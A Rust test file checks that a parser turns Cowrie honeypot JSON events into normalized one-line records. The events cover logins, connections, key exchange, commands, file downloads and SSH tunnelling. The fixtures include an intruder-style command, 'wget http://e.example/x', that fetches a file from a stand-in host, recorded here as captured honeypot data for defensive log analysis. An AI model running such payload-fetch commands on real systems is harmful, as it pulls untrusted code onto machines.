//! Records written after Cowrie's documentation, each with what must be read from it.

use crate::services::sample::{check, survives_damage};

const LOGIN: &str = r#"{"eventid":"cowrie.login.failed","username":"root","password":"pass\"word","message":"login attempt [root/x] failed","timestamp":"2017-02-13T20:00:00.250000Z","src_ip":"192.0.2.7","session":"a1","sensor":"pot","protocol":"ssh"}"#;

/// Puts the common members around the ones of one kind.
fn case(members: &str, expected: &str) {
    check(
        &format!(
            r#"{{"eventid":"cowrie.{members},"src_ip":"192.0.2.7","timestamp":"2017-02-13T20:00:00Z","sensor":"pot","session":"a1"}}"#
        ),
        &expected.replace("HEAD", "machine=pot src=192.0.2.7").replace("TIME", "@2017-02-13T20:00:00Z"),
    );
}

#[test]
fn every_kind_is_typed() {
    check(
        LOGIN,
        "cowrie sign-in outcome=failure machine=pot src=192.0.2.7 proto=ssh user=root by=password tries=1 password=pass\"word @2017-02-13T20:00:00.250Z",
    );
    case(
        r#"login.success","username":"admin","password":"","system":"CowrieTelnetTransport,1,192.0.2.7""#,
        "cowrie sign-in outcome=success HEAD proto=telnet user=admin by=password tries=1 password= TIME",
    );
    case(
        r#"client.fingerprint","username":"root","fingerprint":"ab:cd","protocol":"ssh""#,
        "cowrie sign-in outcome=unknown HEAD proto=ssh user=root by=publickey tries=1 echo TIME",
    );
    case(
        r#"session.connect","src_port":5555,"dst_ip":"198.51.100.1","dst_port":2222,"protocol":"telnet""#,
        "cowrie connection-opened HEAD sport=5555 dst=198.51.100.1 dport=2222 proto=telnet TIME",
    );
    case(
        r#"client.version","version":"SSH-2.0-Go","system":"HoneyPotSSHTransport,1,192.0.2.7""#,
        "cowrie connection-opened HEAD proto=ssh software=SSH-2.0-Go TIME",
    );
    case(r#"session.closed","duration":1.5"#, "cowrie connection-closed HEAD proto=other TIME");
    case(r#"client.kex","hassh":"ab","kexAlgs":["a","b"]"#, "cowrie network-observed HEAD TIME");
    case(
        r#"command.input","input":"wget http://e.example/x""#,
        "cowrie command HEAD command=wget http://e.example/x TIME",
    );
    case(r#"command.failed","input":"wget""#, "cowrie housekeeping HEAD TIME");
    case(
        r#"session.file_download","url":"http://e.example/x","shasum":"f80f","outfile":"dl/f80f""#,
        "cowrie command HEAD url=http://e.example/x sha256=f80f TIME",
    );
    case(
        r#"direct-tcpip.request","dst_ip":"mail.example.org","dst_port":25,"src_port":22,"protocol":"ssh""#,
        "cowrie connection-opened HEAD dport=25 proto=ssh why=direct-tcpip mail.example.org:25 TIME",
    );
    case(r#"log.open","ttylog":"x""#, "cowrie housekeeping HEAD TIME");
}

#[test]
fn damage_does_no_harm() {
    survives_damage(LOGIN);
}
